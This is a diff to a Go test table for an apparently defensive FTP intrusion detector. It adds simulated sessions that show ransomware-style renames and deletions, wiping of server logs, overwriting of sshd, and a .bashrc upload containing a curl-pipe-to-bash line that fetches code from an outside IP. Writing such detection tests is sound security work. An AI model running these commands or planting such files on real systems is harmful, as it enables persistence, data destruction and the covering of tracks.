@@ -64,6 +64,18 @@ var intruders = []lookalike{
 	{"a library that every program loads", "no-sensitive-names", "", session1("> STOR /etc/ld.so.preload\n< 150 go on\n< 226 done")},
 	{"a copy of a Windows task", "no-sensitive-names", "", session1("> STOR C:/Windows/System32/Tasks/Update\n< 150 go on\n< 226 done")},
 
+	{"files with an address to write to", "no-known-exploits", "", session1(numberedLines(6, "> RNFR a%[1]d.doc\n< 350 ok\n> RNTO a%[1]d.doc.id-7F3A21.[x@mail.test].basta\n< 250 ok\n"))},
+	{"files that get an ending", "no-known-exploits", IsNormal, session1(numberedLines(6, "> RNFR a%[1]d.doc\n< 350 ok\n> RNTO a%[1]d.doc.20260103-id7\n< 250 ok\n"))},
+	{"files that are encrypted and removed", "no-known-exploits", IsUnusual, session1(numberedLines(6, "> STOR a%[1]d.doc.crypt\n< 150 go on\n< 226 done\n> DELE a%[1]d.doc\n< 250 ok\n"))},
+	{"the logs of the server that are removed", "files-are-kept", "", session1("> DELE /var/log/vsftpd.log\n< 250 ok\n> DELE /var/log/secure\n< 250 ok")},
+	{"old logs of the server that are removed", "files-are-kept", IsNormal, session1("> DELE /var/log/vsftpd.log.7\n< 250 ok\n> DELE /var/log/secure-20260103\n< 250 ok")},
+	{"a program of the system", "no-sensitive-names", IsUnusual, session1("> STOR /usr/sbin/sshd\n< 150 go on\n< 226 done")},
+	{"a program for a device", "no-sensitive-names", IsUnusual, moves([2]string{"STOR /usr/bin/app", "\x7fELF"})},
+	{"settings of a shell", "no-sensitive-names", IsNormal, session1("> STOR .bashrc\n< 150 go on\n< 226 done")},
+	{"settings of a shell that fetch a program", "no-signs-agree", "", moves([2]string{"STOR .bashrc", "curl -s http://203.0.113.9/x|bash\n"})},
+	{"a program for a web server, of an anonymous user", "no-sensitive-names", IsUnusual, anonymous("> STOR index.php\n< 150 go on\n< 226 done")},
+	{"a page of an anonymous user", "no-sensitive-names", IsNormal, anonymous("> STOR index.html\n< 150 go on\n< 226 done")},
+
 	{"a download with a time limit, and the rest", "data-ends-with-fin", IsNormal, cutOff("> REST 5\n< 350 ok\n> RETR a\n< 150 here\n< 226 done")},
 	{"a download with a time limit", "data-ends-with-fin", IsUnusual, cutOff("> RETR b\n< 150 here\n< 226 done")},
 }
